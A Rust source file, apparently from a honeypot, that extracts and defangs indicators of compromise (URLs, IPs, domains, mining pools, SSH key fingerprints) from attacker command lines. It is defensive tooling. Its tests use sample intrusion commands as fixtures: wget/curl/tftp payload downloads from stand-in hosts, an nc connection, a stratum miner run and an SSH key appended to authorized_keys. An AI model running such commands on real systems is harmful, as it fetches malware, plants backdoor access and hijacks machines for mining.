//! Indicators of compromise: what to block and what to look up, pulled from command lines.
//!
//! From a command line: URLs (`http`, `https`, `ftp`, `tftp`, `stratum+tcp`), IP addresses
//! (loopback, unspecified and broadcast left out), host names of URLs and of the targets of
//! `wget`/`curl`/`nc`/`ping`/`ssh`/`tftp`, mining pool `host:port`s, and SSH public keys
//! (reported by their OpenSSH `SHA256:` fingerprint). File names and hashes come from the
//! download, upload, written and executed events in [`crate::session`]. Every value gets a
//! [`defang`]ed form that is safe to paste into a ticket.

use std::net::IpAddr;
use std::sync::LazyLock;

use base64::Engine as _;
use miragepot_event::IocKind;
use regex::Regex;
use sha2::{Digest, Sha256};

/// Indicators taken from one line, at most.
pub const MAX_PER_LINE: usize = 32;

#[allow(clippy::expect_used)] // constant patterns, checked by the tests
static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\b(?:https?|ftp|tftp|stratum\+(?:tcp|ssl))://[^\s'"<>;|&()`\\]+"#)
        .expect("URL pattern")
});
#[allow(clippy::expect_used)]
static IPV4: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[^0-9.])((?:[0-9]{1,3}\.){3}[0-9]{1,3})(?::([0-9]{1,5}))?(?:$|[^0-9.])")
        .expect("IPv4 pattern")
});
#[allow(clippy::expect_used)]
static SSH_KEY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp(?:256|384|521)) (AAAA[A-Za-z0-9+/]+=*)",
    )
    .expect("SSH key pattern")
});
#[allow(clippy::expect_used)]
static TARGET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:^|[\s;&|(])(?:wget|curl|nc|ncat|netcat|ping|telnet|tftp|ftpget|ssh|scp)\s+(?:-[^\s]+\s+)*(?:[a-z0-9_.-]+@)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,24})(?:[:/\s;&|]|$)")
        .expect("target pattern")
});

/// One indicator.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Indicator {
    /// What it is.
    pub kind: IocKind,
    /// The value.
    pub value: String,
}

impl Indicator {
    fn new(kind: IocKind, value: impl Into<String>) -> Self {
        Indicator {
            kind,
            value: value.into(),
        }
    }
}

/// File extensions that are not top-level domains (`x.sh` is a file, not a host).
const NOT_TLDS: &[&str] = &[
    "sh", "py", "pl", "txt", "tar", "gz", "tgz", "bz2", "xz", "zip", "bin", "so", "conf", "cfg",
    "log", "php", "js", "json", "bak", "tmp", "pid", "lock", "deb", "rpm", "exe", "elf", "arm",
    "mips", "mpsl", "x86", "ppc", "sparc", "m68k", "sh4", "arm5", "arm6", "arm7", "i686", "i586",
    "local", "service", "socket", "timer", "d", "old", "orig", "swp", "out", "html", "htm", "css",
    "pub", "pem", "key", "crt", "rsa", "db", "sql", "csv", "xml", "yml", "yaml", "ini", "md", "rc",
    "bashrc", "profile", "history",
];

/// The indicators in a command line (original case), deduplicated, at most [`MAX_PER_LINE`].
pub fn from_line(line: &str) -> Vec<Indicator> {
    let line = crate::normalize::cap(line, crate::normalize::MAX_LINE);
    let mut out: Vec<Indicator> = Vec::new();
    for m in URL.find_iter(line) {
        let url = m.as_str().trim_end_matches(['.', ',']);
        out.push(Indicator::new(IocKind::Url, url));
        if let Some((host, port)) = url_host(url) {
            push_host(&mut out, &host);
            if let (true, Some(port)) = (url.to_ascii_lowercase().starts_with("stratum"), port) {
                out.push(Indicator::new(IocKind::HostPort, format!("{host}:{port}")));
            }
        }
    }
    for c in IPV4.captures_iter(line) {
        if let Some(ip) = c.get(1) {
            push_host(&mut out, ip.as_str());
        }
    }
    for c in TARGET.captures_iter(line) {
        if let Some(h) = c.get(1) {
            push_host(&mut out, h.as_str());
        }
    }
    for c in SSH_KEY.captures_iter(line) {
        if let Some(fp) = c.get(1).and_then(|b| ssh_fingerprint(b.as_str())) {
            out.push(Indicator::new(IocKind::SshKey, fp));
        }
    }
    let mut seen = std::collections::HashSet::new();
    out.retain(|i| seen.insert(i.clone()));
    out.truncate(MAX_PER_LINE);
    out
}

/// Adds `host` as an IP or a domain when it is a useful indicator.
fn push_host(out: &mut Vec<Indicator>, host: &str) {
    let host = host.trim_matches(['[', ']']);
    if let Ok(ip) = host.parse::<IpAddr>() {
        let boring = ip.is_loopback()
            || ip.is_unspecified()
            || matches!(ip, IpAddr::V4(v4) if v4.is_broadcast());
        if !boring {
            out.push(Indicator::new(IocKind::Ip, ip.to_string()));
        }
        return;
    }
    if host
        .split('.')
        .all(|l| l.bytes().all(|b| b.is_ascii_digit()))
    {
        return; // a dotted number that is not an address (999.1.1.1)
    }
    let host = host.to_ascii_lowercase();
    let tld = host.rsplit('.').next().unwrap_or("");
    let valid = host.contains('.')
        && tld.len() >= 2
        && tld.bytes().all(|b| b.is_ascii_alphabetic())
        && !NOT_TLDS.contains(&tld)
        && host != "localhost";
    if valid {
        out.push(Indicator::new(IocKind::Domain, host));
    }
}

/// Host and port of a URL.
fn url_host(url: &str) -> Option<(String, Option<u16>)> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let authority = authority.rsplit('@').next()?;
    if let Some(v6) = authority.strip_prefix('[') {
        let (host, after) = v6.split_once(']')?;
        let port = after.strip_prefix(':').and_then(|p| p.parse().ok());
        return Some((host.to_string(), port));
    }
    match authority.rsplit_once(':') {
        Some((h, p)) => Some((h.to_string(), p.parse().ok())),
        None => Some((authority.to_string(), None)),
    }
}

/// OpenSSH's `SHA256:` fingerprint of a base64 public key blob.
pub fn ssh_fingerprint(b64: &str) -> Option<String> {
    let blob = base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(b64.trim_end_matches('='))
        .ok()?;
    let digest = Sha256::digest(&blob);
    Some(format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest)
    ))
}

/// The file name part of a path (`/tmp/.x/bins.sh` → `bins.sh`).
pub fn file_name(path: &str) -> Option<&str> {
    let name = path.rsplit('/').next()?;
    (!name.is_empty() && name != "." && name != "..").then_some(name)
}

/// The value made safe to paste: schemes become `hxxp`/`fxp`, and the last dot of a host or
/// address becomes `[.]`. File names, hashes and keys are returned as they are.
pub fn defang(kind: IocKind, value: &str) -> String {
    match kind {
        IocKind::Url => {
            let (scheme, rest) = value.split_once("://").unwrap_or(("", value));
            let scheme = match scheme.to_ascii_lowercase().as_str() {
                "http" => "hxxp".to_string(),
                "https" => "hxxps".to_string(),
                "ftp" => "fxp".to_string(),
                "tftp" => "tfxp".to_string(),
                other => other.replace('+', "[+]"),
            };
            let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
            let (authority, path) = rest.split_at(end);
            format!("{scheme}://{}{path}", dot(authority))
        }
        IocKind::Ip | IocKind::Domain | IocKind::HostPort => dot(value),
        IocKind::Filename | IocKind::Sha256 | IocKind::SshKey => value.to_string(),
    }
}

fn dot(host: &str) -> String {
    match host.rfind('.') {
        Some(i) => {
            let (a, b) = host.split_at(i);
            format!("{a}[.]{}", b.get(1..).unwrap_or(""))
        }
        None => host.replace(':', "[:]"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(line: &str) -> Vec<(IocKind, String)> {
        from_line(line)
            .into_iter()
            .map(|i| (i.kind, i.value))
            .collect()
    }

    #[test]
    fn urls_hosts_and_addresses() {
        let got = kinds(
            "cd /tmp; wget http://203.0.113.5/bins.sh; curl -O https://evil.example.com:8443/x?y=1",
        );
        assert_eq!(
            got,
            vec![
                (IocKind::Url, "http://203.0.113.5/bins.sh".into()),
                (IocKind::Ip, "203.0.113.5".into()),
                (IocKind::Url, "https://evil.example.com:8443/x?y=1".into()),
                (IocKind::Domain, "evil.example.com".into()),
            ]
        );
        let got =
            kinds("tftp -g -r x.mips 198.51.100.9; nc evil.example.org 4444; ping -c1 127.0.0.1");
        assert!(got.contains(&(IocKind::Ip, "198.51.100.9".into())));
        assert!(got.contains(&(IocKind::Domain, "evil.example.org".into())));
        assert!(!got.iter().any(|(_, v)| v == "127.0.0.1" || v == "x.mips"));
        assert!(kinds("chmod +x x.sh; ./x.sh; cat /etc/os-release; uname -a").is_empty());
    }

    #[test]
    fn mining_pools_and_keys() {
        let got = kinds("./x -o stratum+tcp://pool.example.net:3333 -u 4AbC");
        assert!(got.contains(&(IocKind::HostPort, "pool.example.net:3333".into())));
        // A key made with ssh-keygen; `ssh-keygen -l` printed this fingerprint for it.
        let key = "AAAAC3NzaC1lZDI1NTE5AAAAIH1l3HttTtKohCxTf/V0XXCTTQp5uVsBevNI0wED980s";
        let got = kinds(&format!(
            "echo 'ssh-ed25519 {key} x' >> .ssh/authorized_keys"
        ));
        let fp = "SHA256:bKGOgT5Am5ETPlBlBSPr9clxlgRvl8+9gACfvHxOhFY".to_string();
        assert_eq!(got, vec![(IocKind::SshKey, fp)]);
    }

    #[test]
    fn defanging() {
        assert_eq!(
            defang(IocKind::Url, "http://203.0.113.5/x.sh"),
            "hxxp://203.0.113[.]5/x.sh"
        );
        assert_eq!(
            defang(IocKind::Url, "stratum+tcp://pool.example.net:3333"),
            "stratum[+]tcp://pool.example[.]net:3333"
        );
        assert_eq!(
            defang(IocKind::Domain, "evil.example.com"),
            "evil.example[.]com"
        );
        assert_eq!(defang(IocKind::Ip, "::1"), "[:][:]1");
        assert_eq!(defang(IocKind::Filename, "x.sh"), "x.sh");
        assert_eq!(file_name("/tmp/.x/bins.sh"), Some("bins.sh"));
        assert_eq!(file_name("/tmp/"), None);
    }

    #[test]
    fn hostile_input_is_bounded() {
        let many: String = (0..500)
            .map(|i| format!("http://198.51.{}.{}/ ", i / 250, i % 250))
            .collect();
        assert_eq!(from_line(&many).len(), MAX_PER_LINE);
        for s in [
            "http://",
            "http://[::1",
            "ssh-rsa AAAA!",
            "1.2.3.4:99999",
            "wget -",
        ] {
            let _ = from_line(s);
        }
    }
}
